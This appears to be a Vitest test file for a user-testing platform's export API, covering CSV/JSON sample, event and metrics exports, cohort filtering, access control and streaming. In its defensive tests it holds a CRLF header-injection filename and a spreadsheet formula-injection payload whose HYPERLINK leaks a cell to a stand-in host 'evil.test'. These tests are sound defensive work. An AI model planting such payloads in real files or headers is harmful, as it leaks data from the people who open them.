import { EXPORT_ROWS_HEADER } from '@limbus/contract';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { expectError, signInWorld, useWorld } from '../../../test/api.js';
import { buildParticipant, buildTest, RESULTS_READY, signIn } from '../../../test/factories.js';
import { computeTestMetrics } from '../../../test/jobs.js';
import { syntheticRecording } from '../../../test/synthetic-streams.js';
import { labels, participants as participantsTable } from '../../db/schema.js';

const ctx = useWorld();
let as: Awaited<ReturnType<typeof signInWorld>>;
beforeAll(async () => {
  as = await signInWorld(ctx.t.app, ctx.world);
});

const START = Date.UTC(2026, 0, 12, 9, 30);

async function recordedTest(participants = 2, durationMs = 10_000) {
  const test = await buildTest(ctx.t.db, ctx.world.client.id, RESULTS_READY);
  const built = [];
  for (let i = 0; i < participants; i++)
    built.push(
      await buildParticipant(ctx.t, test.id, {
        recording: { startMs: START, durationMs },
        significantPoints: [
          { emotion: 'joy', timestampTop: START + 2_000, comment: 'Likes the "new" shoes, a lot', tags: [] },
        ],
      }),
    );
  return { testId: test.id, participants: built };
}

const csvLines = (body: string) => body.trimEnd().split('\n');

describe('exports', () => {
  it('issue 26, one name per participant: names one participant’s file by its label, made safe for the header, not by its id', async () => {
    const { testId } = await recordedTest(1);
    const labelled = await buildParticipant(ctx.t, testId, { realId: 'lab "1"/0042\r\nX-Evil: 1' });
    const response = await as.clientAdmin.get(
      `/tests/${testId}/exports/events?participant_id=${labelled.id}`,
    );
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="limbus-test-${testId}-lab-1-0042-X-Evil-1-events.csv"`,
    );
    expect(response.headers['x-evil']).toBeUndefined();
    expect(response.headers['content-disposition']).not.toContain(`participant-${labelled.id}`);
  });

  it('exports one participant’s raw samples as CSV with units in the header and the row count up front', async () => {
    const test = await buildTest(ctx.t.db, ctx.world.client.id, RESULTS_READY);
    const testId = test.id;
    const recording = syntheticRecording({ startMs: START, durationMs: 10_000, mouseSamples: 500, seed: 5 });
    for (const i of [3, 4, 5, 200]) {
      recording.eyes.samples.x[i] = Number.NaN;
      recording.eyes.samples.y[i] = Number.NaN;
    }
    const first = await buildParticipant(ctx.t, testId, {
      realId: 'P0042',
      streams: [recording.emotions, recording.eyes, recording.mice],
    });
    const response = await as.clientAdmin.get(`/tests/${testId}/exports/samples?participant_id=${first.id}`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="limbus-test-${testId}-P0042-samples.csv"`,
    );
    const lines = csvLines(response.body);
    expect(lines[0]).toBe(
      'participant_id,real_id,stream,timestamp_unix_ms,x_px,y_px,scroll_y_px,page_height_px,click,url,joy_0_1,attention_0_1,frustration_0_1',
    );
    const { eyes, mice, emotions } = recording;
    const total =
      eyes.samples.timestamp.length + mice.samples.timestamp.length + emotions.samples.timestamp.length;
    expect(Number(response.headers[EXPORT_ROWS_HEADER])).toBe(total);
    expect(lines).toHaveLength(total + 1);
    const gaze = lines.filter((line) => line.split(',')[2] === 'gaze');
    expect(gaze).toHaveLength(eyes.samples.timestamp.length);
    const seen = eyes.samples.x.findIndex((value) => !Number.isNaN(value));
    const [, , , time, x, y] = (gaze[seen] ?? '').split(',');
    expect(Number(time)).toBeCloseTo(eyes.samples.timestamp[seen] as number, 2);
    expect(Number(x)).toBeCloseTo(eyes.samples.x[seen] as number, 0);
    expect(Number(y)).toBeCloseTo(eyes.samples.y[seen] as number, 0);
    // Lost gaze (blinks) has empty positions, not NaN.
    const lost = [...eyes.samples.x].filter(Number.isNaN).length;
    expect(lost).toBeGreaterThanOrEqual(4);
    expect(gaze.filter((line) => line.split(',')[4] === '')).toHaveLength(lost);
    expect(response.body).not.toContain('NaN');
    const emotion = lines.find((line) => line.split(',')[2] === 'emotions')?.split(',') ?? [];
    expect(Number(emotion[10])).toBeCloseTo(emotions.samples.joy[0] as number, 3);
  });

  it('exports every participant’s samples as JSON with a units object', async () => {
    const { testId, participants } = await recordedTest(2);
    const response = await as.clientMember.get(`/tests/${testId}/exports/samples?format=json`);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    const body = response.json<{
      kind: string;
      units: Record<string, string>;
      rows: Record<string, unknown>[];
    }>();
    expect(body.kind).toBe('samples');
    expect(body.units.timestamp_unix_ms).toBe('milliseconds since 1970-01-01 00:00 UTC');
    expect(body.units.joy_0_1).toBe('score from 0 to 1');
    expect(body.rows).toHaveLength(Number(response.headers[EXPORT_ROWS_HEADER]));
    expect(new Set(body.rows.map((row) => row.participant_id))).toEqual(
      new Set(participants.map((p) => p.id)),
    );
    expect(new Set(body.rows.map((row) => row.stream))).toEqual(new Set(['gaze', 'mouse', 'emotions']));
    // One row per line, so that a reader can count the rows as they arrive.
    expect(response.body.trimEnd().split('\n').length).toBe(body.rows.length + 2);
    const click = body.rows.find((row) => row.stream === 'mouse');
    expect(click).toMatchObject({ url: expect.stringMatching(/^https:\/\//), click: expect.any(Number) });
  });

  it("exports one cohort's samples and events", async () => {
    const { testId, participants } = await recordedTest(2);
    const [lab, remote] = participants.map((p) => p.id);
    await ctx.t.db
      .update(participantsTable)
      .set({ source: 'webcam' })
      .where(eq(participantsTable.id, remote as number));
    const idsIn = (body: string) =>
      new Set(
        csvLines(body)
          .slice(1)
          .map((line) => Number(line.split(',')[0])),
      );
    const remoteOnly = await as.clientMember.get(`/tests/${testId}/exports/events?cohort=remote`);
    expect(remoteOnly.statusCode).toBe(200);
    expect(idsIn(remoteOnly.body)).toEqual(new Set([remote]));
    const labOnly = await as.clientMember.get(`/tests/${testId}/exports/samples?cohort=lab`);
    expect(idsIn(labOnly.body)).toEqual(new Set([lab]));
    expectError(await as.clientMember.get(`/tests/${testId}/exports/events?cohort=webcam`), 'validation', {
      cohort: 'Choose a cohort: all, lab or remote',
    });
  });

  it("exports one cohort's page and tag metrics, computed over that cohort's participants", async () => {
    const test = await buildTest(ctx.t.db, ctx.world.client.id, RESULTS_READY);
    const ids: number[] = [];
    for (let i = 0; i < 3; i++)
      ids.push(
        (
          await buildParticipant(ctx.t, test.id, {
            recording: { startMs: START, durationMs: 10_000 },
            significantPoints: [{ emotion: 'joy', timestampTop: START + 2_000, tags: ['Checkout'] }],
          })
        ).id,
      );
    await ctx.t.db
      .update(participantsTable)
      .set({ source: 'webcam' })
      .where(eq(participantsTable.id, ids[2] as number));
    await ctx.t.db.insert(labels).values({
      testId: test.id,
      name: 'Shop',
      urls: ['https://shop.example.test/'],
      matchType: 'starts_with',
    });
    await computeTestMetrics(ctx.t, test.id);
    const joyOf = async (cohort: string) => {
      const response = await as.clientAdmin.get(
        `/tests/${test.id}/exports/metrics?format=json&cohort=${cohort}`,
      );
      expect(response.statusCode, response.body).toBe(200);
      const rows = response
        .json<{ rows: Record<string, unknown>[] }>()
        .rows.filter((row) => row.emotion === 'joy');
      return Object.fromEntries(rows.map((row) => [row.kind, row.participants]));
    };
    expect(await joyOf('all')).toEqual({ page: 3, tag: 3 });
    expect(await joyOf('lab')).toEqual({ page: 2, tag: 2 });
    expect(await joyOf('remote')).toEqual({ page: 1, tag: 1 });
  });

  it('exports fixations, saccades and significant points (CSV quoting the comment)', async () => {
    const { testId } = await recordedTest(1);
    const response = await as.clientAdmin.get(`/tests/${testId}/exports/events`);
    const lines = csvLines(response.body);
    expect(lines[0]).toContain(
      'event,start_unix_ms,end_unix_ms,duration_ms,x_px,y_px,amplitude_deg,velocity_deg_s',
    );
    const events = lines.slice(1).map((line) => line.split(',')[2]);
    expect(events.filter((event) => event === 'fixation').length).toBeGreaterThan(10);
    expect(events).toContain('saccade');
    expect(lines.find((line) => line.includes('significant_point'))).toContain(
      ',joy,0,"Likes the ""new"" shoes, a lot",false',
    );
    expect(response.headers[EXPORT_ROWS_HEADER]).toBeUndefined();
  });

  it('CSV formula injection: a comment, tag or page name a spreadsheet would run is written as text', async () => {
    const test = await buildTest(ctx.t.db, ctx.world.client.id, RESULTS_READY);
    const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A2,"Open")';
    await buildParticipant(ctx.t, test.id, {
      recording: { startMs: START, durationMs: 10_000 },
      significantPoints: [
        { emotion: 'joy', timestampTop: START + 2_000, comment: HYPERLINK, tags: ['@SUM(1+1)'] },
      ],
      sections: [{ timestampStart: START, timestampEnd: START + 10_000, label: { name: '+1+1', urls: [] } }],
    });
    await computeTestMetrics(ctx.t, test.id);
    const events = (await as.clientAdmin.get(`/tests/${test.id}/exports/events`)).body;
    expect(events).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
    expect(events).not.toMatch(/,"?=HYPERLINK/);
    const metrics = csvLines((await as.clientAdmin.get(`/tests/${test.id}/exports/metrics`)).body);
    const names = metrics.slice(1).map((line) => line.split(',')[2]);
    expect(names).toContain("'+1+1");
    expect(names).toContain("'@SUM(1+1)");
    expect(names).not.toContain('+1+1');
    // numbers stay numbers, negative ones too: only text is defused
    expect(metrics.slice(1).every((line) => !/,'-?\d/.test(line))).toBe(true);
  });

  it('exports page and tag metrics with each mean’s count and interval', async () => {
    const { testId } = await recordedTest(3);
    await ctx.t.db
      .insert(labels)
      .values({ testId, name: 'Shop', urls: ['https://shop.example.test/'], matchType: 'starts_with' });
    await computeTestMetrics(ctx.t, testId);
    const body = (await as.clientAdmin.get(`/tests/${testId}/exports/metrics?format=json`)).json<{
      rows: Record<string, unknown>[];
    }>();
    const joy = body.rows.find((row) => row.kind === 'page' && row.emotion === 'joy');
    expect(joy).toMatchObject({
      name: 'Shop',
      participants: 3,
      emotion_participants: 3,
      significant_points: 3,
    });
    expect(joy?.ci95_lower_0_1).toBeLessThan(joy?.mean_0_1 as number);
    expect(joy?.ci95_upper_0_1).toBeGreaterThan(joy?.mean_0_1 as number);
  });

  it('is read by the test’s readers only, and refuses bad input', async () => {
    const { testId, participants } = await recordedTest(1);
    const other = await recordedTest(1);
    expectError(await as.otherAdmin.get(`/tests/${testId}/exports/samples`), 'not_found');
    expectError(await as.anonymous.get(`/tests/${testId}/exports/samples`), 'unauthenticated');
    // A participant of another test is not found in this one.
    expectError(
      await as.clientAdmin.get(
        `/tests/${testId}/exports/samples?participant_id=${other.participants[0]?.id}`,
      ),
      'not_found',
    );
    expectError(await as.clientAdmin.get(`/tests/999999/exports/events`), 'not_found');
    expectError(await as.clientAdmin.get(`/tests/${testId}/exports/videos`), 'validation', {
      kind: expect.any(String),
    });
    expectError(await as.clientAdmin.get(`/tests/${testId}/exports/samples?format=xml`), 'validation', {
      format: expect.any(String),
    });
    expectError(
      await as.clientAdmin.get(`/tests/${testId}/exports/metrics?participant_id=${participants[0]?.id}`),
      'validation',
      { participant_id: expect.any(String) },
    );
  });

  it('streams: the first bytes arrive while later participants are not read yet', async () => {
    const { testId, participants } = await recordedTest(3, 60_000);
    const last = participants.at(-1);
    if (!last) throw new Error('no participant');
    // Holds back the last participant's stream files until the test has read the first bytes:
    // an export built in memory before sending would never send any.
    let release: () => void = () => {};
    const released = new Promise<void>((resolve) => {
      release = resolve;
    });
    let heldReads = 0;
    const files = ctx.t.files;
    const get = files.get.bind(files);
    files.get = async (key) => {
      if (key.startsWith(`streams/${last.id}/`)) {
        heldReads++;
        await released;
      }
      return get(key);
    };
    const address = await ctx.t.app.listen({ port: 0, host: '127.0.0.1' });
    try {
      const { authorization } = await signIn(ctx.t.app, ctx.world.clientAdmin.email);
      const response = await fetch(`${address}/api/v1/tests/${testId}/exports/samples`, {
        headers: { authorization },
      });
      expect(response.status).toBe(200);
      const reader = response.body?.getReader();
      if (!reader) throw new Error('no body');
      const first = await reader.read();
      expect(first.done).toBe(false);
      expect(new TextDecoder().decode(first.value)).toMatch(/^participant_id,real_id,stream/);
      // Received while the last participant's streams were still held back.
      expect(heldReads).toBeLessThanOrEqual(1);
      release();
      let text = new TextDecoder().decode(first.value);
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read())
        text += new TextDecoder().decode(chunk.value);
      expect(text.trimEnd().split('\n')).toHaveLength(Number(response.headers.get(EXPORT_ROWS_HEADER)) + 1);
      expect(text).toContain(`\n${last.id},`);
    } finally {
      release();
      files.get = get;
    }
  });
});
